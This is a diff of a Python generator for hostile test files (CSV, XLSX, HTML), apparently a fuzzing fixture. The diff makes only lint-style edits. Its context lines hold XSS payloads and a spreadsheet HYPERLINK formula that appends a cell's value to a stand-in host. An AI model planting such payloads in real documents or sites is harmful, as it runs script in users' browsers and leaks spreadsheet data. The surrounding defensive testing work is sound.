@@ -518,7 +518,7 @@ _BAD_NUMBERS = ("NaN", "nan", "inf", "-inf", "Infinity", "-1", "-5", "0", "-0", 
 
 def k_bad_numbers(rng: Random) -> Made:
     base = _pick(rng, rng.choice(("template", "template", "xml_names", "html_names")))
-    value = lambda r: r.choice(_BAD_NUMBERS)  # noqa: E731
+    value = lambda r: r.choice(_BAD_NUMBERS)
     if base.is_csv_template:
         column = rng.choice(("place", "score", "place"))
         return (base.stem + ".csv",
@@ -630,7 +630,7 @@ def k_xlsx_merges(rng: Random) -> Made:
     cells = "".join(f'<mergeCell ref="{r}"/>' for r in ["A1:B2", *refs])
     data = _rezip(data, lambda n, c: re.sub(rb'<mergeCells count="\d+">.*?</mergeCells>',
                                             f'<mergeCells count="{len(refs) + 1}">{cells}'
-                                            "</mergeCells>".encode(), c, flags=re.S)
+                                            "</mergeCells>".encode(), c, flags=re.DOTALL)
                   if n.startswith("xl/worksheets/") else c)
     return f"merged-{count}.xlsx", data
 
@@ -829,7 +829,7 @@ _FORMULAS = ('=HYPERLINK("http://example.invalid/x?"&A1,"Jan Nowak")', "@SUM(1+1
 
 
 def k_formula_cells(rng: Random) -> Made:
-    formula = lambda r, _n: r.choice(_FORMULAS)  # noqa: E731
+    formula = lambda r, _n: r.choice(_FORMULAS)
     base = _pick(rng, rng.choice(("template", "names", "xlsx", "html_names")))
     if base.ext == ".xlsx" and base.names:
         return base.stem + ".xlsx", _with_names(base, rng, formula)
@@ -855,7 +855,7 @@ _MARKUP = ("<script>alert(1)</script>", '<img src=x onerror="alert(1)">',
 def k_markup_names(rng: Random) -> Made:
     base = _names_base(rng)
     raw = (base.is_html or base.is_xml) and rng.random() < 0.5
-    value = lambda r, n: r.choice((r.choice(_MARKUP), f"{n} {r.choice(_MARKUP)}"))  # noqa: E731
+    value = lambda r, n: r.choice((r.choice(_MARKUP), f"{n} {r.choice(_MARKUP)}"))
     return base.stem + base.ext, _named(base, rng, value, raw_markup=raw)
 
 
@@ -904,13 +904,11 @@ def k_huge_boards(rng: Random) -> Made:
     for row in rows:
         if rng.random() < 0.5 or len(rows) < 3:
             row[i] = value
-    keys = {(r[0], r[1], r[2]) for r in rows}
     # boards must agree within an event: give every row of a touched event the value
     touched = {(r[0], r[1], r[2]) for r in rows if r[i] == value}
     for row in rows:
         if (row[0], row[1], row[2]) in touched:
             row[i] = value
-    del keys
     return base.stem + ".csv", _write_template(delimiter, header, rows)
 
 
@@ -1118,6 +1116,6 @@ def _make(kind: str, index: int, seed: int) -> tuple[bytes, bytes, str] | tuple[
                 return f"{index:05d}-{kind}-{plain}".encode(), first, second
             plain, data = _SINGLE[kind](rng)
             return f"{index:05d}-{kind}-{plain}".encode(), data, kind
-        except Exception:  # noqa: BLE001
+        except Exception:  # noqa: BLE001, S112
             continue  # an unlucky draw (a base without what this damage needs): draw again
     raise RuntimeError(f"cannot make a file of kind {kind} (seed {seed}, index {index})")
